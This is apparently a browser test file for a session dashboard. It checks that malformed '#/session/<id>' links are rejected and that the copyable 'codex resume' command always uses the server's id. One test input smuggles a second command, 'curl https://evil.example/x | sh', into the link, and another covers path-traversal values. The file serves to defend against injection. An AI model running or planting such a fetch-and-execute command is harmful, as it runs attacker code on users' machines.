// What a `#/session/<id>` link can make the page do (issue 17, item 17): only a UUID is fetched,
// shown in the resume command or copied; the command and the download use the id the server
// gave; a session that is not there offers nothing to copy or download.
import type { Page, Request } from 'playwright-core';
import { expect, it } from 'vitest';
import { REAL_HOME, uuidN } from '../helper.js';
import { describeBrowser, serve, useBrowser, watchedPage } from './browser.js';

const REAL_ID = '01a20b7c-dbe8-70c2-9828-678afb8f6bf7';

/** The paths the page's scripts fetch (not its navigations or assets). */
function apiRequests(page: Page, base: string): string[] {
  const seen: string[] = [];
  page.on('request', (r: Request) => {
    if (r.resourceType() === 'fetch') seen.push(r.url().slice(base.length - 1));
  });
  return seen;
}

const copyButton = (page: Page) => page.getByRole('button', { name: 'Copy the codex resume command' });
const downloadButton = (page: Page) => page.getByRole('button', { name: 'Download NDJSON' });

describeBrowser('session links', () => {
  const browser = useBrowser();

  it('a link whose id is followed by a second command is not a session: nothing is fetched, shown as a command, or copied', async () => {
    const base = await serve(REAL_HOME);
    await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base.replace(/\/$/, '') });
    const { page, pageErrors } = await watchedPage(browser);
    const requests = apiRequests(page, base);
    await page.goto(`${base}#/session/${REAL_ID}%0Acurl%20https%3A%2F%2Fevil.example%2Fx%20%7C%20sh`);
    await page.getByRole('heading', { level: 1, name: 'Not a session id' }).waitFor();
    // The id is shown as the text it is, newline included (JSON-escaped), never as a command.
    const alert = page.getByRole('alert');
    expect(await alert.locator('code.bad-id').textContent()).toBe(JSON.stringify(`${REAL_ID}\ncurl https://evil.example/x | sh`));
    expect(await copyButton(page).count()).toBe(0);
    expect(await page.locator('code.resume').count()).toBe(0);
    expect(requests.filter((r) => r.startsWith('/conversations'))).toEqual([]);
    expect(pageErrors).toEqual([]);
  });

  it('`#/session/..` does not fetch the page itself (or anything) and throws nothing', async () => {
    const base = await serve(REAL_HOME);
    const { page, pageErrors } = await watchedPage(browser);
    const requests = apiRequests(page, base);
    for (const bad of ['..', '%2e%2e', '.', '%', `${REAL_ID}%2F..`, `${REAL_ID.slice(0, 35)}`]) {
      await page.goto(`${base}#/session/${bad}`);
      await page.getByRole('heading', { level: 1, name: 'Not a session id' }).waitFor();
      await page.goto(`${base}#/`);
      await page.getByRole('heading', { level: 1, name: 'Sessions' }).waitFor();
    }
    // Only the list's own requests (and /readyz: which agents are served, for the rows' badges): no
    // session read, and not the dashboard's page fetched as JSON.
    expect(requests.length).toBeGreaterThan(0);
    const own = /^\/(?:(?:conversations|events|usage)\?|readyz$)/;
    expect(requests.filter((r) => r.startsWith('/conversations/') || !own.test(r))).toEqual([]);
    expect(pageErrors).toEqual([]);
  });

  it('the command and the download use the id the server gave, not the spelling of the link', async () => {
    const base = await serve(REAL_HOME);
    await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base.replace(/\/$/, '') });
    const { page, pageErrors } = await watchedPage(browser);
    // Upper case is a valid spelling of the id (the API accepts any case); the command is the server's.
    await page.goto(`${base}#/session/${REAL_ID.toUpperCase()}`);
    await page.getByRole('heading', { level: 1, name: 'run the linter and list files (#1)' }).waitFor();
    expect(await page.locator('code.resume').textContent()).toBe(`codex resume ${REAL_ID}`);
    await copyButton(page).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(`codex resume ${REAL_ID}`);
    const [download] = await Promise.all([page.waitForEvent('download'), downloadButton(page).click()]);
    expect(download.suggestedFilename()).toBe(`rollout-2026-11-24T02-57-41-${REAL_ID}.jsonl`);
    expect(pageErrors).toEqual([]);
  });

  it('a session that is not there says so and offers no Copy and no Download', async () => {
    const base = await serve(REAL_HOME);
    const { page } = await watchedPage(browser);
    await page.goto(`${base}#/session/${uuidN(404)}`);
    await page.getByRole('alert').filter({ hasText: 'NOT_FOUND' }).waitFor();
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('No such session');
    expect(await copyButton(page).count()).toBe(0);
    expect(await downloadButton(page).count()).toBe(0);
    expect(await page.locator('code.resume').count()).toBe(0);
  });
});
